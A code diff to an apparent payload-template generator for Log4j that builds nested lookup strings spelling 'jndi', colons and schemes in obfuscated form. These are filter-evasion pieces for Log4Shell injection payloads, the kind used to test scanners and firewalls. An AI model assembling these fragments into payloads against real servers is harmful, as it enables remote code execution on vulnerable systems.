@@ -1,7 +1,10 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
 import { templateGenerator } from '../template-generator.js';
 
-/** Log4j: the name is itself put together by look-ups. */
+/**
+ * Log4j: the name is itself put together by look-ups. A name that no look-up knows (`${n}`) stays as it is written, and
+ * spoils what is around it: every piece has its prefix or its default.
+ */
 export const jndiNested = templateGenerator({
   name: 'jndi-nested',
   engines: ['log4j'],
@@ -23,8 +26,8 @@ export const jndiNested = templateGenerator({
       '${l}sys:{letters}:-j{r}',
       '${l}lower:J{r}',
     ],
-    n: ['${l}lower:n{r}', '${l}::-n{r}', '${l}env:X:-n{r}', 'n', '${l}${l}::-n{r}{r}', '${l}date:n{r}'],
-    d: ['${l}lower:d{r}', '${l}::-d{r}', 'd', '${l}${l}lower:d{r}{r}', "${l}date:'d'{r}"],
+    n: ['${l}lower:n{r}', '${l}::-n{r}', '${l}env:X:-n{r}', 'n', '${l}lower:${l}::-n{r}{r}', '${l}date:n{r}'],
+    d: ['${l}lower:d{r}', '${l}::-d{r}', 'd', '${l}lower:${l}upper:d{r}{r}', "${l}date:'d'{r}"],
     i: ['${l}lower:i{r}', '${l}::-i{r}', 'i', '${l}upper:ı{r}', '${l}lower:${l}upper:i{r}{r}'],
     colon: [':', '${l}::-:{r}', '${l}lower::{r}', '${l}env:{letters}:-:{r}', '${l}sd:k5:-:{r}'],
     scheme: [
